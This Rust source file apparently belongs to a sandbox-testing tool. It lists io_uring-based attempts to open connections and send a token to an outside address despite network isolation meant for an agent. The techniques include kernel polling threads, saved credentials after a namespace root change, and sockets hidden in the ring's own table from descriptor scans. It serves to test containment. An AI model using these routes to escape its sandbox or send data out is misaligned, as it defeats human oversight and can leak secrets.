//! io_uring: the socket calls done by the kernel on an agent's behalf, also by a thread of its own.

use std::{
    io::{self, IoSlice},
    net::SocketAddr,
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd, RawFd},
};

use nix::sched::CloneFlags;
use socket2::{SockAddr, Socket};

use crate::{
    aim::Aim,
    trick::{
        self, pass,
        uring::{
            ASYNC, Entry, FIXED_FILE, OP_COMMAND, OP_CONNECT, OP_SEND, OP_SENDMSG, OP_SOCKET, Ring,
            SQPOLL,
        },
        user,
    },
    vector::{Attempt, Ends, Vector},
};

pub(super) const VECTOR: Vector = Vector {
    name: "io_uring",
    attempts: &[
        Attempt::new("connect", |aim| connect(0, 0, aim.far4, aim)),
        Attempt::new("connect, IPv6", |aim| connect(0, 0, aim.far6, aim)),
        Attempt::new("connect, in a worker", |aim| {
            connect(0, ASYNC, aim.far4, aim)
        }),
        Attempt::new("connect, SQPOLL", |aim| connect(SQPOLL, 0, aim.far4, aim)),
        Attempt::new("connect, by credentials from before", |aim| {
            user::in_child(|| {
                let ring = Ring::new(0)?;
                let before = ring.keep_credentials()?;
                user::become_root(CloneFlags::empty())?;
                let socket = trick::tcp(aim.far4)?;
                let to = aim.far4.into();
                let connecting = connecting(socket.as_raw_fd(), 0, &to);
                ring.run(Entry {
                    personality: before,
                    ..connecting
                })?;
                trick::speak(&socket, aim)
            })
        }),
        Attempt::new("sendmsg", |aim| send_message(0, aim)),
        Attempt::new("sendmsg, SQPOLL", |aim| send_message(SQPOLL, aim)),
        Attempt::new("send with fast open", fast),
        Attempt::new("OP_SOCKET", |aim| socket(0, libc::IPPROTO_TCP, aim)),
        Attempt::new("OP_SOCKET, SQPOLL", |aim| {
            socket(SQPOLL, libc::IPPROTO_TCP, aim)
        }),
        Attempt::new("OP_SOCKET, MPTCP", |aim| {
            socket(0, libc::IPPROTO_MPTCP, aim)
        }),
        Attempt::new("OP_SOCKET without a descriptor", direct),
        Attempt::new("connect, on a socket handed in", |aim| {
            let socket = pass::take()?;
            let ring = Ring::new(SQPOLL)?;
            ring.register(Some(socket.as_raw_fd()))?;
            drop(socket);
            ring.run(connecting(0, FIXED_FILE, &aim.far4.into()))?;
            ring.run(sending(0, FIXED_FILE, aim)).map(drop)
        })
        .helped_by(|aim| {
            pass::give(&trick::tcp(aim.far4)?)?;
            pass::stay()
        }),
        Attempt::new("connected, kept in the ring alone", |aim| {
            let socket = pass::take()?;
            let ring = Ring::new(0)?;
            ring.register(Some(socket.as_raw_fd()))?;
            drop(socket);
            ring.run(sending(0, FIXED_FILE, aim)).map(drop)
        })
        .helped_by(|aim| {
            let socket = trick::tcp(aim.far4)?;
            socket.connect(&aim.far4.into())?;
            pass::give(&socket)?;
            pass::stay()
        })
        .ends(Ends::Open(
            "handed in connected, and no scan of descriptors finds it: closed by the seccomp filter \
             of weir run, which refuses io_uring_setup",
        )),
    ],
};

pub(crate) fn connecting(fd: RawFd, flags: u8, to: &SockAddr) -> Entry {
    Entry {
        opcode: OP_CONNECT,
        flags,
        fd,
        addr: to.as_ptr().expose_provenance() as u64,
        off: u64::from(to.len()),
        ..Entry::default()
    }
}

fn sending(fd: RawFd, flags: u8, aim: &Aim) -> Entry {
    Entry {
        opcode: OP_SEND,
        flags,
        fd,
        addr: aim.payload().as_ptr().expose_provenance() as u64,
        len: u32::try_from(aim.token.len()).expect("short"),
        ..Entry::default()
    }
}

fn connect(ring: u32, flags: u8, to: SocketAddr, aim: &Aim) -> io::Result<()> {
    let socket = trick::tcp(to)?;
    let ring = Ring::new(ring)?;
    ring.run(connecting(socket.as_raw_fd(), flags, &to.into()))?;
    ring.run(sending(socket.as_raw_fd(), 0, aim))?;
    trick::listen(&socket).map(drop)
}

fn send_message(ring: u32, aim: &Aim) -> io::Result<()> {
    let socket = trick::udp(aim.far4)?;
    let to = SockAddr::from(aim.far4);
    let mut slice = IoSlice::new(aim.payload());
    // SAFETY: plain numbers and pointers; all zero is a value.
    let mut message: libc::msghdr = unsafe { std::mem::zeroed() };
    message.msg_name = to.as_ptr().cast_mut().cast();
    message.msg_namelen = to.len();
    // An IoSlice is an iovec (std::io::IoSlice).
    message.msg_iov = (&raw mut slice).cast();
    message.msg_iovlen = 1;
    let entry = Entry {
        opcode: OP_SENDMSG,
        fd: socket.as_raw_fd(),
        addr: (&raw const message).expose_provenance() as u64,
        len: 1,
        ..Entry::default()
    };
    Ring::new(ring)?.run(entry).map(drop)
}

/// `sendto()` with data on the SYN: address and length stand where other calls have an offset.
fn fast(aim: &Aim) -> io::Result<()> {
    let socket = trick::tcp(aim.far4)?;
    let to = SockAddr::from(aim.far4);
    let entry = Entry {
        off: to.as_ptr().expose_provenance() as u64,
        // The low half of this word, as the kernel reads it.
        file_index: to.len(),
        op_flags: libc::MSG_FASTOPEN.unsigned_abs(),
        ..sending(socket.as_raw_fd(), 0, aim)
    };
    Ring::new(0)?.run(entry)?;
    trick::listen(&socket).map(drop)
}

fn making(protocol: i32) -> Entry {
    Entry {
        opcode: OP_SOCKET,
        fd: libc::AF_INET,
        off: u64::from(libc::SOCK_STREAM.unsigned_abs()),
        len: protocol.unsigned_abs(),
        ..Entry::default()
    }
}

fn socket(ring: u32, protocol: i32, aim: &Aim) -> io::Result<()> {
    let ring = Ring::new(ring)?;
    let fd = ring.run(making(protocol))?;
    // SAFETY: the kernel has just made it for this process, and nothing else knows of it.
    let socket = Socket::from(unsafe { OwnedFd::from_raw_fd(fd) });
    ring.run(connecting(fd, 0, &aim.far4.into()))?;
    ring.run(sending(fd, 0, aim))?;
    socket.set_read_timeout(Some(std::time::Duration::from_millis(500)))?;
    trick::listen(&socket).map(drop)
}

/// A socket that is in the ring's own table and in no other.
fn direct(aim: &Aim) -> io::Result<()> {
    let ring = Ring::new(0)?;
    ring.register(None)?;
    let entry = Entry {
        // Slot 0, counted from one.
        file_index: 1,
        ..making(libc::IPPROTO_TCP)
    };
    ring.run(entry)?;
    ring.run(connecting(0, FIXED_FILE, &aim.far4.into()))?;
    ring.run(sending(0, FIXED_FILE, aim)).map(drop)
}

/// Setting an option: a command to the socket, `SOCKET_URING_OP_SETSOCKOPT`.
pub(super) fn setting(socket: &Socket, level: i32, option: i32, value: &[u8]) -> Entry {
    let (level, option) = (level.cast_unsigned(), option.cast_unsigned());
    Entry {
        opcode: OP_COMMAND,
        fd: socket.as_raw_fd(),
        off: 3,
        addr: u64::from(level) | (u64::from(option) << 32),
        file_index: u32::try_from(value.len()).expect("short"),
        rest: [value.as_ptr().expose_provenance() as u64, 0],
        ..Entry::default()
    }
}
